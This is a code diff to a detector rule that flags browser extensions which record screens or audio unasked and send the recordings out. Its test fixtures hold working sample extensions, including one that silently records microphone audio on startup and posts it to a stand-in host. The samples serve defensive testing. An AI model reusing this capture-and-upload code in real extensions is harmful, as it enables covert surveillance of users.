@@ -5,6 +5,7 @@ import {
   callsOf,
   constant,
   keysOf,
+  pattern,
   propertyOf,
   scriptsOf,
   type Call,
@@ -42,6 +43,7 @@ export const screenWatched = defineRule({
   category: 'privacy',
   applies: 'extension',
   cwe: 'CWE-359',
+  cap: { grade: 'D', reason: 'it records without being asked', from: 'critical' },
   references: ['https://attack.mitre.org/techniques/T1113/'],
   why: 'A screenshot shows mail, money and messages from every site. Taken on a timer or on every page, it is surveillance.',
   remedy: 'Record only after a click, show that it happens, and keep the result on the device.',
@@ -54,7 +56,8 @@ export const screenWatched = defineRule({
       const out = leavesBy(script, new Set([call.value]), ['network']);
       const alone =
         unasked.get(call.value) ??
-        (out !== undefined && isOrdered(facts, script, call) ? 'pages that are opened' : undefined);
+        (out !== undefined && isOrdered(facts, script, call) ? 'pages that are opened' : undefined) ??
+        (isAtStart(script, call.pos) ? opensHidden(facts, file.path) : undefined);
       if (alone !== undefined && out !== undefined)
         yield hit(call.value, {
           severity: 'critical',
@@ -100,6 +103,17 @@ export const screenWatched = defineRule({
             'chrome.runtime.onMessage.addListener(async (m, s) => { if (m.type !== "view") return; const shot = await chrome.tabs.captureVisibleTab(s.tab.windowId); await fetch("https://x.example/s", { method: "POST", body: shot }); });',
           'c.js':
             'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "permissions": ["offscreen"]}',
+          'bg.js':
+            'chrome.runtime.onStartup.addListener(() => chrome.offscreen.createDocument({ url: "off.html", reasons: ["USER_MEDIA"], justification: "x" }));',
+          'off.html': '<script src="off.js"></script>',
+          'off.js':
+            'navigator.mediaDevices.getUserMedia({ audio: true }).then((s) => { const r = new MediaRecorder(s); r.ondataavailable = (e) => { const f = new FormData(); f.append("a", e.data); fetch("https://x.example/a", { method: "POST", body: f }); }; r.start(10000); });',
         },
       },
       contentExample(
@@ -150,6 +164,22 @@ function isRecording(script: ScriptFacts, call: Call): boolean {
         propertyOf(script, propertyOf(script, propertyOf(script, asked, kind), 'mandatory'), 'chromeMediaSource'),
       ) === 'tab',
   );
+}
+
+/** What opens the hidden document that a script runs in, where that happens by itself; the background is one itself. */
+function opensHidden(facts: Facts, path: string): string | undefined {
+  const pages = [...facts.having('html')].flatMap(([file, { scripts }]) =>
+    scripts.some(({ src }) => src !== undefined && path.endsWith(src.replace(/^[./]+/, ''))) ? [file.path] : [],
+  );
+  for (const { script } of scriptsOf(facts)) {
+    const unasked = unaskedCalls(script);
+    for (const call of callsOf(script, 'chrome.offscreen.createDocument')) {
+      const url = pattern(script, propertyOf(script, call.args[0] ?? 0, 'url'));
+      const event = unasked.get(call.value) ?? (isAtStart(script, call.pos) ? 'chrome.runtime' : undefined);
+      if (event !== undefined && pages.some((page) => url.endsWith(page))) return event;
+    }
+  }
+  return undefined;
 }
 
 /** Values from which on a script is taken for a bundle. */
